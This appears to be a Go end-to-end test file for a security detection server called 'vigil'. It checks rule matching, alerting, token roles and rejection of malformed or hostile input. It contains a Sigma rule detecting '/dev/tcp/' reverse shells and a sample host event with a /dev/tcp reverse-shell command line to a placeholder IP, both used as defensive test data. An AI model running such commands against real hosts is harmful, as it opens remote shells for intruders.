package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge/types"
)

// serveRules writes the rules of the end-to-end tests beside the built-in
// pack: a native rule on an application's payment events, and Sigma rules
// on Kubernetes audit and host events.
func serveRules(t *testing.T, dir string) (native, sigmaDir string) {
	t.Helper()
	native, sigmaDir = filepath.Join(dir, "rules"), filepath.Join(dir, "sigma")
	os.MkdirAll(native, 0o755)
	os.MkdirAll(sigmaDir, 0o755)
	os.WriteFile(filepath.Join(native, "payments.yaml"), []byte(`id: bank-large-transfer-new-payee
title: Large transfer to a payee added today
severity: high
scenario: funds
tags: [attack.impact]
pattern:
  source: [bank.payments]
  detail-type: [Transfer]
  detail:
    amount: [{numeric: [">=", 1000000]}]
    payee_age_days: [{numeric: ["<", 1]}]
dedup: [detail.account]
`), 0o644)
	os.WriteFile(filepath.Join(sigmaDir, "k8s.yml"), []byte(`title: Exec into a pod
id: 6d3a1f2e-0000-4000-8000-000000000001
logsource: {product: kubernetes, service: audit}
detection:
    selection: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}
    condition: selection
level: high
---
title: Reverse shell to /dev/tcp
id: 6d3a1f2e-0000-4000-8000-000000000002
logsource: {product: linux, category: process_creation}
detection:
    selection: {CommandLine|contains: /dev/tcp/}
    condition: selection
level: critical
`), 0o644)
	return native, sigmaDir
}

func gz(b []byte) []byte {
	var buf bytes.Buffer
	z := gzip.NewWriter(&buf)
	z.Write(b)
	z.Close()
	return buf.Bytes()
}

const k8sEventList = `{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"9e0c0001","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods/ledger-0/exec","verb":"create","user":{"username":"dev@bank.example"},"sourceIPs":["10.0.4.17"],"objectRef":{"resource":"pods","namespace":"payments","name":"ledger-0","subresource":"exec"},"requestReceivedTimestamp":"2026-11-20T03:10:00.000000Z","stageTimestamp":"2026-11-20T03:10:00.100000Z"},
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"9e0c0002","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods","verb":"list","user":{"username":"dev@bank.example"},"sourceIPs":["10.0.4.17"],"objectRef":{"resource":"pods","namespace":"payments"},"requestReceivedTimestamp":"2026-11-20T03:10:01.000000Z","stageTimestamp":"2026-11-20T03:10:01.100000Z"}]}`

// TestServe runs vigil serve on a fresh data directory, as a newcomer
// does, and sends it events of every kind, through every way in.
func TestServe(t *testing.T) {
	dir := t.TempDir()
	native, sigmaDir := serveRules(t, dir)
	inbox := filepath.Join(dir, "inbox")
	os.MkdirAll(inbox, 0o755)
	conf := filepath.Join(dir, "vigil.yaml")
	os.WriteFile(conf, []byte(fmt.Sprintf("rules:\n  dirs: [%s]\n  sigma: [%s]\ninputs:\n  - {name: trail-archive, dir: %s, source: cloudtrail, poll: 1s}\n", native, sigmaDir, inbox)), 0o644)
	data := filepath.Join(dir, "data")
	n := serveNode(t, data, "--config", conf)
	if n.admin == "" {
		t.Fatalf("no admin token printed:\n%s", n.stderr)
	}
	if strings.Count(n.stderr.String(), n.admin) != 1 {
		t.Error("the admin token is printed more than once, or logged")
	}
	ingestTok, _ := token(t, "--data-dir", data, "--role", "ingest", "--name", "trail-shipper")
	_, awsCreds := token(t, "--data-dir", data, "--role", "ingest", "--name", "payments-app", "--source", "eventbridge")

	// The sample archive, as CloudTrail files, gzip-encoded: serve finds
	// what scan finds.
	for _, f := range sampleFiles(t) {
		body, _ := os.ReadFile(f)
		if code, r := n.ingest("cloudtrail", ingestTok, body, "Content-Encoding", "gzip"); code != http.StatusAccepted || r.Rejected != 0 {
			t.Fatalf("%s: %d %s", f, code, r.raw)
		}
	}
	wantAlerts, wantEvents := scanSample(t)
	eventually(t, 30*time.Second, "the sample's alerts", func() bool {
		a := n.alerts(n.admin, "")
		return len(a) == wantAlerts && count(a) == wantEvents
	})

	// Kubernetes audit, as the API server's webhook posts it.
	if code, r := n.ingest("k8s-audit", ingestTok, []byte(k8sEventList)); code != http.StatusAccepted || r.Accepted != 2 {
		t.Fatalf("k8s-audit: %d %s", code, r.raw)
	}
	// Host events as NDJSON, one malformed.
	ndjson := `{"UtcTime":"2026-11-20 03:20:00.000","Computer":"app-7","User":"www-data","Image":"/usr/bin/sh","CommandLine":"sh -c exec 5<>/dev/tcp/203.0.113.9/80"}` + "\n{\"broken\": \n" + `{"UtcTime":"2026-11-20 03:21:00.000","Computer":"app-7","CommandLine":"ls"}` + "\n"
	code, r := n.ingest("ndjson", ingestTok, []byte(ndjson), "Content-Type", "application/x-ndjson")
	if code != http.StatusAccepted || r.Accepted != 2 || r.Rejected != 1 || r.Errors[0].Index != 1 || !strings.Contains(r.Errors[0].Error, "invalid JSON") {
		t.Fatalf("ndjson: %d %s", code, r.raw)
	}
	// A CloudTrail record as EventBridge delivers it.
	eb := `{"version":"0","id":"7e1c0a5e-0000-4000-8000-000000000001","detail-type":"AWS API Call via CloudTrail","source":"aws.iam","account":"111122223333","time":"2026-11-20T10:00:00Z","region":"us-east-1","resources":[],"detail":{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/eb-intruder","accountId":"111122223333"},"eventTime":"2026-11-20T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.77","requestParameters":{"userName":"backup"},"eventID":"eb-1","eventType":"AwsApiCall","recipientAccountId":"111122223333"}}`
	if code, r := n.ingest("eventbridge", ingestTok, []byte(eb)); code != http.StatusAccepted || r.Accepted != 1 {
		t.Fatalf("eventbridge: %d %s", code, r.raw)
	}
	// An application's events, through the AWS SDK's EventBridge client.
	putEvents(t, n, awsCreds)
	// A CloudTrail file dropped in the input directory.
	trail := fmt.Sprintf(`{"Records":[{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/dir-intruder"},"eventTime":"2026-11-20T11:00:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.78","requestParameters":{"name":"org-trail"},"eventID":"dir-1","eventType":"AwsApiCall","recipientAccountId":"111122223333"}]}`)
	os.MkdirAll(filepath.Join(inbox, "AWSLogs"), 0o755)
	os.WriteFile(filepath.Join(inbox, "AWSLogs", "111122223333_CloudTrail_us-east-1_20261120T1100Z_x.json.gz"), gz([]byte(trail)), 0o644)

	has := func(alerts []servedAlert, rule, entity string) bool {
		for _, a := range alerts {
			if a.Rule.ID == rule {
				for _, vals := range a.Entities {
					if entity == "" || slices.Contains(vals, entity) {
						return true
					}
				}
			}
		}
		return false
	}
	eventually(t, 30*time.Second, "an alert of every way in", func() bool {
		a := n.alerts(n.admin, "")
		return has(a, "6d3a1f2e-0000-4000-8000-000000000001", "dev@bank.example") &&
			has(a, "6d3a1f2e-0000-4000-8000-000000000002", "app-7") &&
			has(a, "aws-iam-access-key-created", "arn:aws:iam::111122223333:user/eb-intruder") &&
			has(a, "bank-large-transfer-new-payee", "") &&
			has(a, "aws-cloudtrail-logging-stopped", "arn:aws:iam::111122223333:user/dir-intruder")
	})

	alertsAPI(t, n)
	badInput(t, n, ingestTok)

	// Revoking a token works at once, while the server runs.
	if out, errOut, code := vigil(t, "", "token", "revoke", "--data-dir", data, "trail-shipper"); code != 0 {
		t.Fatalf("revoke: %s %s", out, errOut)
	}
	if code, _ := n.ingest("cloudtrail", ingestTok, []byte(`{"Records":[]}`)); code != http.StatusUnauthorized {
		t.Errorf("a revoked token: %d", code)
	}
	n.stop()
	if !strings.Contains(n.stderr.String(), "vigil stopping") {
		t.Errorf("no orderly stop:\n%s", n.stderr)
	}
	// A second start keeps the alerts and prints no new admin token.
	n2 := serveNode(t, data, "--config", conf)
	if n2.admin != "" {
		t.Error("a second start printed an admin token")
	}
	if a := n2.alerts(n.admin, "rule=bank-large-transfer-new-payee"); len(a) != 1 {
		t.Errorf("after a restart: %d payment alerts", len(a))
	}
	n2.stop()
}

// putEvents sends application events with the AWS SDK's EventBridge
// client, signed with an ingest token's credentials.
func putEvents(t *testing.T, n *node, creds string) {
	t.Helper()
	id := regexpFind(t, creds, `aws_access_key_id = (\S+)`)
	secret := regexpFind(t, creds, `aws_secret_access_key = (\S+)`)
	client := eventbridge.New(eventbridge.Options{
		Region:           "eu-west-1",
		Credentials:      credentials.NewStaticCredentialsProvider(id, secret, ""),
		BaseEndpoint:     aws.String(n.url),
		HTTPClient:       n.client,
		RetryMaxAttempts: 1,
	})
	out, err := client.PutEvents(ctxTimeout(t, time.Minute), &eventbridge.PutEventsInput{Entries: []types.PutEventsRequestEntry{
		{Source: aws.String("bank.payments"), DetailType: aws.String("Transfer"), Detail: aws.String(`{"account":"CN-0042","amount":2500000,"currency":"CNY","payee_age_days":0}`)},
		{Source: aws.String("bank.payments"), DetailType: aws.String("Transfer"), Detail: aws.String(`{"account":`)},
		{Source: aws.String("aws.iam"), DetailType: aws.String("Transfer"), Detail: aws.String(`{}`)},
	}})
	if err != nil {
		t.Fatalf("PutEvents: %v", err)
	}
	if out.FailedEntryCount != 2 || aws.ToString(out.Entries[0].EventId) == "" ||
		aws.ToString(out.Entries[1].ErrorCode) != "MalformedDetail" || aws.ToString(out.Entries[2].ErrorCode) != "NotAuthorizedForSourceException" {
		t.Errorf("PutEvents: %+v", out)
	}
}

func regexpFind(t *testing.T, s, expr string) string {
	t.Helper()
	m := regexp.MustCompile(expr).FindStringSubmatch(s)
	if m == nil {
		t.Fatalf("%q not in %q", expr, s)
	}
	return m[1]
}

// alertsAPI changes an alert's status, reads it back with its notes and
// as OCSF, and reads the metrics.
func alertsAPI(t *testing.T, n *node) {
	t.Helper()
	analyst, _ := token(t, "--data-dir", n.dataDir, "--role", "analyst", "--name", "soc-analyst")
	auditor, _ := token(t, "--data-dir", n.dataDir, "--role", "auditor", "--name", "internal-audit")
	crit := n.alerts(auditor, "min_severity=critical")
	if len(crit) == 0 {
		t.Fatal("no critical alert")
	}
	id := crit[0].ID
	patch := []byte(`{"status":"acknowledged","comment":"on it"}`)
	if code, out := n.do("PATCH", "/api/v1/alerts/"+id, auditor, patch, "Content-Type", "application/json"); code != http.StatusForbidden {
		t.Errorf("an auditor changed an alert: %d %s", code, out)
	}
	code, out := n.do("PATCH", "/api/v1/alerts/"+id, analyst, patch, "Content-Type", "application/json")
	if code != http.StatusOK || !strings.Contains(string(out), `"status":"acknowledged"`) || !strings.Contains(string(out), `"actor":"api:soc-analyst"`) {
		t.Errorf("PATCH: %d %s", code, out)
	}
	if a := n.alerts(analyst, "status=acknowledged"); len(a) != 1 || a[0].ID != id {
		t.Errorf("status filter: %+v", a)
	}
	code, out = n.do("GET", "/api/v1/alerts/"+id+"?format=ocsf", auditor, nil)
	var f struct {
		ClassUID int `json:"class_uid"`
		StatusID int `json:"status_id"`
	}
	if json.Unmarshal(out, &f); code != http.StatusOK || f.ClassUID != 2004 || f.StatusID != 2 {
		t.Errorf("OCSF: %d %s", code, out)
	}
	code, out = n.do("GET", "/metrics", auditor, nil)
	if code != http.StatusOK || !strings.Contains(string(out), "vigil_ingest_events_total{source=\"cloudtrail\"}") ||
		!strings.Contains(string(out), "vigil_event_alert_latency_seconds_bucket") {
		t.Errorf("metrics: %d", code)
	}
	if code, _ := n.do("GET", "/metrics", "", nil); code != http.StatusUnauthorized {
		t.Errorf("metrics without a token: %d", code)
	}
}

// badInput sends what a broken or hostile client sends: each gets a clear
// 4xx, and the server stays ready.
func badInput(t *testing.T, n *node, tok string) {
	t.Helper()
	deep := strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100)
	bomb := gz(bytes.Repeat([]byte(" "), 300<<20))
	for _, c := range []struct {
		name, source, token string
		body                []byte
		headers             []string
		code                int
		want                string
	}{
		{"no token", "cloudtrail", "", []byte(`{}`), nil, 401, "no bearer token"},
		{"bad token", "cloudtrail", "vgl_AAAAAAAAAAAAAAAA_nope", []byte(`{}`), nil, 401, "not valid"},
		{"unknown source", "nope", tok, []byte(`{}`), nil, 404, `unknown source`},
		{"form body", "cloudtrail", tok, []byte(`a=b`), []string{"Content-Type", "application/x-www-form-urlencoded"}, 415, "Content-Type"},
		{"not JSON", "ndjson", tok, []byte(`hello`), nil, 400, "not JSON"},
		{"deep", "ndjson", tok, []byte(deep), nil, 400, "nested deeper than 64 levels"},
		{"invalid UTF-8", "ndjson", tok, []byte("{\"a\":\"\xff\"}"), nil, 400, "UTF-8"},
		{"wrong kind", "cloudtrail", tok, []byte(`{"hello":"world"}`), nil, 400, "source cloudtrail takes cloudtrail events"},
		{"gzip bomb", "ndjson", tok, bomb, []string{"Content-Encoding", "gzip"}, 413, "decompressed"},
		{"not gzip", "ndjson", tok, []byte(`{}`), []string{"Content-Encoding", "gzip"}, 400, "not gzip"},
		{"too large", "ndjson", tok, bytes.Repeat([]byte(" "), 17<<20), nil, 413, "larger than"},
	} {
		code, r := n.ingest(c.source, c.token, c.body, c.headers...)
		if code != c.code || !strings.Contains(r.raw, c.want) {
			t.Errorf("%s: %d %s, want %d with %q", c.name, code, r.raw, c.code, c.want)
		}
	}
	if code, out := n.do("GET", "/readyz", "", nil); code != http.StatusOK {
		t.Errorf("not ready after bad input: %d %s", code, out)
	}
}
